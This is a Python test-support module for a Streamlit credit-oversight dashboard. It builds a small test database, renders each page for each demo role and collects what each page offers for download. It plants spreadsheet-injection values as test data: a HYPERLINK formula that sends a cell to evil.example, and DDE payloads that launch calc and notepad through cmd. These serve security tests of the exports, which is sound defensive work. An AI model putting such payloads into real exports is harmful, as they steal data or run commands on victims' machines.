"""Shared by tests/test_role_scope.py and tests/test_security.py: a scored tiny city with query
alerts and supervision items of three departments and a county (one per engine per test
session), the demo roles, and every page rendered once per
(engine, role, page) with AppTest, its rendered text and its downloads collected.

The world is read-only for tests: a test that writes builds its own (`build_world`).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from functools import partial
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from sqlalchemy import insert, select
from streamlit.testing.v1 import AppTest

from data_access.engine import get_engine
from data_access.id_number import is_valid_id_number
from data_access.queries import oversight as ov
from data_access.schema import models as m
from data_access.scope import Scope
from tests.conftest import TINY_AS_OF, TINY_SEED, create_pg_database, drop_pg_database

APP = str(Path(__file__).resolve().parent.parent / "dashboard.py")
ALERTS_FROM, ALERTS_TO = dt.date(2026, 10, 1), dt.date(2026, 11, 26)

# Every role, department heads of three departments with different shapes of scope:
# URBAN answers for one domain and no profession, EDU for one profession and no domain,
# SAMR for four professions and three domains.
DEPARTMENTS = ("URBAN", "EDU", "SAMR")
USERS: dict[str, dict] = {
    "leading_office": {"username": "leading_office", "role": "leading_office",
                       "department_code": "DRC"},
    **{f"dept_{d}": {"username": f"dept_{d.lower()}", "role": "department_head",
                     "department_code": d} for d in DEPARTMENTS},
    "privacy_officer": {"username": "privacy_officer", "role": "privacy_officer",
                        "department_code": "DRC"},
    "admin": {"username": "admin", "role": "admin", "department_code": None},
}  # fmt: skip

# Hostile values planted in the world: they reach the oversight case file (an export).
HOSTILE_NOTE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE_REF = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_TERMINAL = "+cmd|' /C notepad'!A0"
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
ID_PATTERN = re.compile(r"(?<![0-9A-Za-z])[0-9]{17}[0-9Xx](?![0-9A-Za-z])")


# Supervision items planted in the world: unit -> (source, figure row, state reached).
EVIDENCE_PDF = b"%PDF-1.4\n% planted evidence\n"
SUPERVISED = {
    "EDU": ("delivery", "ROSTER-TEACHER", "open"),
    "SAMR": ("delivery", "PENALTY-FOOD_DRUG", "answered"),  # answered, returned, answered again
    "URBAN": ("repair", "", "accepted"),
    "411602": ("delivery", "ROSTER-TEACHER", "open"),  # a county unit: only the city roles
}


def plant_supervision(engine) -> dict[str, int]:
    """One supervision item per unit of SUPERVISED, taken to its state; the URBAN item's required
    action is a hostile spreadsheet value (it reaches the circular export). Unit -> item number."""
    from data_access.queries import supervision as sv

    office, opened = Scope("leading_office", "DRC"), TINY_AS_OF - dt.timedelta(days=20)
    numbers = {}
    for unit, (source, item, state) in SUPERVISED.items():
        facts = ({"item_code": item, "period": "2026-09", "due_date": "2026-10-15",
                  "state": "missing"} if source == "delivery" else
                 {"application_id": "APP-PLANTED", "kind": "repair", "reasons": ["pending_past_limit"]})  # fmt: skip
        numbers[unit] = sv.open_item(
            engine, office, "leading_office", unit_code=unit, source=source,
            source_ref=f"{unit}|{item}|planted", facts=facts, seen_on=opened,
            deadline=opened + dt.timedelta(days=10), today=opened,
            action=HOSTILE_NOTE if unit == "URBAN" else f"请{unit}于期限内整改",
        )  # fmt: skip
        head = Scope("department_head", unit)
        if state in ("answered", "accepted"):
            sv.answer_item(engine, head if unit in DEPARTMENTS else Scope("admin"),
                           f"dept_{unit.lower()}", numbers[unit], "已整改",
                           [("整改报告.pdf", EVIDENCE_PDF)])  # fmt: skip
        if unit == "SAMR":
            sv.return_item(engine, office, "leading_office", numbers[unit], "佐证不足")
            sv.answer_item(engine, head, "dept_samr", numbers[unit], "已补充佐证")
        if state == "accepted":
            sv.accept_item(engine, office, "leading_office", numbers[unit], "同意")
    return numbers


def scope_of(user_key: str) -> Scope:
    return Scope.from_user(USERS[user_key])


# --------------------------------------------------------------------------- the world


def build_world(url: str) -> str:
    """The tiny city, scored as of its date, with the detector's alerts and planted hostile
    values on the highest-scoring alert (an escalation note and one lookup in its window)."""
    from scoring.anomaly import detect
    from scoring.anomaly_store import store_alerts
    from scoring.points_policy import load_policy
    from scoring.points_run import score_database
    from seed_data.build import build_city

    engine = get_engine(url)
    build_city(engine, "tiny", seed=TINY_SEED, as_of=TINY_AS_OF)
    score_database(engine, TINY_AS_OF, load_policy())
    store_alerts(engine, detect(engine, ALERTS_FROM, ALERTS_TO), ALERTS_FROM, ALERTS_TO)
    officer = Scope("privacy_officer")
    queue = ov.alert_queue(engine, officer, (), 0.0, None, None, None)
    assert not queue.empty, "the tiny city should raise at least one alert"
    top = queue.iloc[0]
    ov.triage(engine, officer, int(top["alert_id"]), "privacy_officer", "escalate", HOSTILE_NOTE)
    with engine.begin() as conn:
        subject = conn.scalar(select(m.Person.id_number).order_by(m.Person.id_number).limit(1))
        conn.execute(
            insert(m.QueryLog),
            {"query_id": "HOSTILE-1", "queried_at": top["window_start"] + dt.timedelta(hours=10),
             "operator_id": top["operator_id"], "subject_id_number": subject,
             "purpose_code": "EMPLOYMENT", "authorization_ref": HOSTILE_REF, "channel": "WINDOW",
             "terminal_id": HOSTILE_TERMINAL, "flags": ""},
        )  # fmt: skip
    plant_supervision(engine)
    return url


_WORLDS: dict[str, str] = {}


def world_fixture(request, tmp_path_factory) -> str:
    """Body of the `world` fixtures of the test modules: one world per engine per session, shared
    by every module that asks (the modules' fixtures are distinct, the world is not)."""
    kind = request.param
    if kind not in _WORLDS:
        if kind == "sqlite":
            url = f"sqlite:///{tmp_path_factory.mktemp('scope_world') / 'credit.db'}"
        else:
            url = create_pg_database("credit_scope")
            request.config.add_cleanup(partial(drop_pg_database, url))
        _WORLDS[kind] = build_world(url)
    return _WORLDS[kind]


ENGINES = ["sqlite", pytest.param("postgresql", marks=pytest.mark.postgres)]


# --------------------------------------------------------------------------- rendering


@dataclass
class Download:
    label: str
    file_name: str
    mime: str
    data: bytes
    _cells: list[object] | None = field(default=None, repr=False)

    def cells(self) -> list[object]:
        """Every cell of a CSV or Excel download (headers included); [] for other files."""
        if self._cells is None:
            self._cells = self._read_cells()
        return self._cells

    def _read_cells(self) -> list[object]:
        if self.file_name.endswith(".csv"):
            text = self.data.decode("utf-8-sig")
            return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
        if self.file_name.endswith(".xlsx"):
            book = openpyxl.load_workbook(io.BytesIO(self.data))
            return [c.value for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
        return []

    def frames(self) -> list[pd.DataFrame]:
        """The tables of a CSV (header in line 1) or of each sheet of a workbook built by
        ui.exports.to_excel (title, subtitle, then the header in row 3)."""
        if self.file_name.endswith(".csv"):
            rows = list(csv.reader(io.StringIO(self.data.decode("utf-8-sig"), newline="")))
            return [pd.DataFrame(rows[1:], columns=rows[0])] if rows else []
        if self.file_name.endswith(".xlsx"):
            book = openpyxl.load_workbook(io.BytesIO(self.data))
            out = []
            for sheet in book.worksheets:
                rows = [list(r) for r in sheet.iter_rows(min_row=3, values_only=True)]
                if rows:
                    header = [str(h) for h in rows[0]]
                    out.append(pd.DataFrame(rows[1:], columns=header).astype(object))
            return out
        return []

    def formulas(self) -> list[str]:
        """Cells an Excel workbook would evaluate (formulas and array formulas)."""
        if not self.file_name.endswith(".xlsx"):
            return []
        with zipfile.ZipFile(io.BytesIO(self.data)) as archive:
            sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
            return [n for n in sheets if b"<f" in archive.read(n)]

    def texts(self) -> list[str]:
        if self.file_name.endswith((".csv", ".xlsx")):
            return [str(c) for c in self.cells() if c is not None]
        return [self.data.decode("utf-8", errors="replace")]


@dataclass
class Rendered:
    """One page as one role saw it."""

    app: AppTest
    downloads: list[Download] = field(default_factory=list)

    @property
    def main(self):
        return self.app.main

    def frames(self) -> list[pd.DataFrame]:
        return [d.value for d in self.main.dataframe]

    def column_values(self, header: str) -> set[str]:
        """Every value of every on-screen table column with this header."""
        return {
            str(v)
            for frame in self.frames()
            if header in frame.columns
            for v in frame[header].dropna()
        }

    def texts(self, include_downloads: bool = True) -> list[str]:
        """Every string the page shows in its main area (and its downloads)."""
        out = list(_node_texts(self.main))
        if include_downloads:
            for download in self.downloads:
                out += download.texts()
        return out

    def denied(self) -> bool:
        from ui.i18n import t

        return any(e.value == t("access.denied", "zh") for e in self.app.error)


def _node_texts(node, skip: frozenset[str] = frozenset()) -> Iterator[str]:
    """Every string of the element and its children (elements of the types in `skip` left out,
    e.g. text_input: what the user typed is not what the page shows)."""
    kind = getattr(node, "type", None)
    if kind in skip:
        return
    if kind == "dataframe" or kind == "table":
        frame = node.value
        yield from (str(c) for c in frame.columns)
        yield from (str(frame.index.name or ""),)
        for column in frame.columns:
            yield from (str(v) for v in frame[column].tolist() if v is not None)
    elif kind == "plotly_chart":
        yield from _json_strings(json.loads(node.proto.spec))
    else:
        for attribute in ("value", "label", "delta", "help", "placeholder"):
            try:
                value = getattr(node, attribute, None)
            except Exception:  # a widget whose value is not in this run's state
                value = None
            if isinstance(value, str):
                yield value
            elif isinstance(value, list | tuple):
                yield from (str(v) for v in value)
        options = getattr(node, "options", None)
        if isinstance(options, list | tuple):
            yield from (str(o) for o in options)
    children = getattr(node, "children", None)
    if isinstance(children, dict):
        for child in children.values():
            yield from _node_texts(child, skip)


def _json_strings(value) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for v in value.values():
            yield from _json_strings(v)
    elif isinstance(value, list):
        for v in value:
            yield from _json_strings(v)


def _recording_download_buttons(mp: pytest.MonkeyPatch, downloads: list[Download]) -> None:
    """Record what every st.download_button offers (deferred data is generated here)."""
    import streamlit as st
    from streamlit.delta_generator import DeltaGenerator

    def record(label, data, kwargs) -> None:
        payload = data() if callable(data) else data
        if hasattr(payload, "read"):
            payload = payload.read()
        if isinstance(payload, str):
            payload = payload.encode("utf-8")
        downloads.append(Download(str(label), str(kwargs.get("file_name") or ""),
                                  str(kwargs.get("mime") or ""), bytes(payload)))  # fmt: skip

    module_level = st.download_button
    method = DeltaGenerator.download_button

    def st_download_button(label, data, *args, **kwargs):
        record(label, data, kwargs)
        return module_level(label, data, *args, **kwargs)

    def dg_download_button(self, label, data, *args, **kwargs):
        record(label, data, kwargs)
        return method(self, label, data, *args, **kwargs)

    mp.setattr(st, "download_button", st_download_button)
    mp.setattr(DeltaGenerator, "download_button", dg_download_button)


def _server_navigation(mp: pytest.MonkeyPatch) -> None:
    """As the conftest fixture `server_navigation`: the server's steady state (see there)."""
    from streamlit.runtime.pages_manager import PagesManager

    original_init = PagesManager.__init__

    def init(self, *args, **kwargs) -> None:
        original_init(self, *args, **kwargs)
        PagesManager.uses_pages_directory = False

    mp.setattr(PagesManager, "__init__", init)


def open_app(url: str, user_key: str, lang: str = "zh", **state) -> AppTest:
    """An AppTest of the dashboard for the user (not run yet); extra session state as given."""
    app = AppTest.from_file(APP, default_timeout=90)
    app.session_state["user"] = USERS[user_key]
    app.session_state["lang"] = lang
    app.session_state["filter_as_of"] = TINY_AS_OF
    for key, value in state.items():
        app.session_state[key] = value
    return app


def render_page(
    url: str,
    user_key: str,
    page: str,
    *,
    legacy: bool = False,
    monkeypatch: pytest.MonkeyPatch | None = None,
    **state,
) -> Rendered:
    """Run the dashboard for the user and open the page (not cached).

    legacy=False: as a running server does, through st.navigation (a page the role may not open
    is not registered: ValueError). legacy=True: the first run of a fresh server process, which
    serves the pages/ file directly; only the page's own guard stands in the way.
    A test that goes on running the app (typing, clicking) passes its `monkeypatch`, so that the
    database URL and the server's navigation stay in place for those runs."""
    if monkeypatch is None:
        with pytest.MonkeyPatch.context() as mp:
            return render_page(url, user_key, page, legacy=legacy, monkeypatch=mp, **state)
    downloads: list[Download] = []
    monkeypatch.setenv("CREDIT_DB_URL", url)
    _recording_download_buttons(monkeypatch, downloads)
    app = open_app(url, user_key, **state)
    if legacy:
        app.switch_page(page).run()
    else:
        _server_navigation(monkeypatch)
        app.run()  # the role's first page: its downloads are not this page's
        downloads.clear()
        app.switch_page(page).run()
    return Rendered(app, downloads)


_RENDERED: dict[tuple[str, str, str], Rendered] = {}


def rendered(url: str, user_key: str, page: str) -> Rendered:
    """render_page, once per (database, user, page) in the test session: read-only use only."""
    key = (url, user_key, page)
    if key not in _RENDERED:
        _RENDERED[key] = render_page(url, user_key, page)
    return _RENDERED[key]


def unmasked_ids(texts: list[str]) -> set[str]:
    """Every valid 18-character ID number written out in the texts."""
    return {
        found.upper()
        for text in texts
        for found in ID_PATTERN.findall(text)
        if is_valid_id_number(found)
    }
